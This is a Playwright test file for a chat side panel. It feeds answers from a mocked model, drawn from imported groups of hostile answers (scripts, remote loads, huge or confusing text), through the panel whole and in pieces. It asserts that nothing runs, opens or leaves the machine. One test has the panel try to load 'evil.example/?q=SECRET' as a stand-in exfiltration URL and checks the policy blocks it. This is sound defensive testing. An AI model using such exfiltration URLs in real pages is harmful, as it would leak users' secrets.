import type { Page } from '@playwright/test';
import { createRandom } from '../../bench/random.ts';
import { ADDRESSES } from '../../hostile-answers/addresses.ts';
import { CONFUSION } from '../../hostile-answers/confusion.ts';
import { FORMULAS } from '../../hostile-answers/formulas.ts';
import type { HostileAnswer } from '../../hostile-answers/hostile-answer.ts';
import { REMOTE } from '../../hostile-answers/remote.ts';
import { SCRIPTS } from '../../hostile-answers/scripts.ts';
import { HUGE, STRUCTURE } from '../../hostile-answers/structure.ts';
import { send, turns } from '../support/chat.ts';
import { expect } from '../support/test.ts';
import { setGuard } from './guard.ts';
import { lookAt } from './look.ts';
import { test } from './test.ts';

// Longer than a frame, so that each piece is seen by itself.
test.use({ pace: 20 });

/** Pieces that an answer is cut into: enough to cut any tag, link or fence of a short one. */
const MOST_PIECES = 12;

/** A text in pieces, cut at random; the same for the same text. */
function inPieces(text: string): readonly string[] {
  const random = createRandom(text.length);
  const cuts = Array.from({ length: random.below(MOST_PIECES) + 1 }, () => random.below(text.length));
  const places = [0, ...new Set(cuts), text.length].toSorted((a, b) => a - b);
  return places.slice(1).map((end, index) => text.slice(places[index], end));
}

async function startOver(panel: Page): Promise<void> {
  await panel.getByRole('button', { name: 'Menu' }).click();
  await panel.getByRole('menuitem', { name: 'New conversation' }).click();
  await expect(turns(panel)).toHaveCount(0);
}

/** Answers in one conversation: a person starts over sooner, and a longer one says no more. */
const IN_A_ROW = 10;

/** After the worst of answers comes a good one. */
const LAST: HostileAnswer = {
  tries: 'means no harm',
  text: 'Here **is** [the answer](https://example.com/).',
};

const GROUPS: Readonly<Record<string, readonly HostileAnswer[]>> = {
  'what would run': SCRIPTS,
  addresses: ADDRESSES,
  'what would load something or cover the panel': REMOTE,
  'what is deep or never closed': STRUCTURE,
  'a million characters': HUGE,
  'what looks like something else': CONFUSION,
  'mathematics and diagrams': FORMULAS,
};

for (const [name, answers] of Object.entries(GROUPS)) {
  test(`${name}: no answer does harm, whole or in pieces`, async ({ panel, sidenote, kimi, outside }) => {
    test.setTimeout(300_000);
    const dialogs: string[] = [];
    for (const page of [panel, ...sidenote.context.pages()]) {
      page.on('dialog', (dialog) => {
        dialogs.push(dialog.message());
        void dialog.dismiss();
      });
    }
    const address = panel.url();
    const tabs = sidenote.context.pages().length;
    const before = kimi.requests.length;
    await setGuard(panel);

    const rounds = [...answers, LAST].flatMap((answer) => [
      { ...answer, pieces: [answer.text] },
      { ...answer, pieces: inPieces(answer.text) },
    ]);
    for (const [index, { tries, text, pieces }] of rounds.entries()) {
      if (index > 0 && (index % IN_A_ROW === 0 || text.length > 100_000)) await startOver(panel);
      kimi.say(pieces);
      const question = `Question ${index + 1}`;
      await send(panel, question);
      const found = [...(await lookAt(panel, question)), ...dialogs.splice(0)];
      expect.soft(found, `an answer that ${tries}, in ${pieces.length} pieces`).toEqual([]);
    }

    expect(kimi.requests.length - before, 'one request for each question').toBe(rounds.length);
    expect(outside.asked, 'nothing else leaves this machine').toEqual([]);
    expect(panel.url()).toBe(address);
    expect(sidenote.context.pages(), 'no tab was opened').toHaveLength(tabs);
    for (const page of sidenote.context.pages()) {
      expect(await page.evaluate(() => 'owned' in globalThis)).toBe(false);
    }
  });
}

test('what an answer would load from outside, the panel’s policy would stop', async ({ panel, outside }) => {
  const load = (url: string) =>
    panel.evaluate(async (address) => {
      const image = new Image();
      const isShown = new Promise((resolve) => {
        image.addEventListener('load', () => resolve('shown'));
        image.addEventListener('error', () => resolve('not shown'));
      });
      image.src = address;
      return [await isShown, await fetch(address).catch(() => 'not fetched')];
    }, url);
  expect(await load('http://evil.example/?q=SECRET')).toEqual(['not shown', 'not fetched']);
  expect(outside.asked).toEqual([]);
  // Any host may be the API's, if it is encrypted: that the proxy sees it shows that it sees everything.
  expect(await load('https://evil.example/?q=SECRET')).toEqual(['not shown', 'not fetched']);
  expect(outside.asked).toEqual(['evil.example:443']);
});
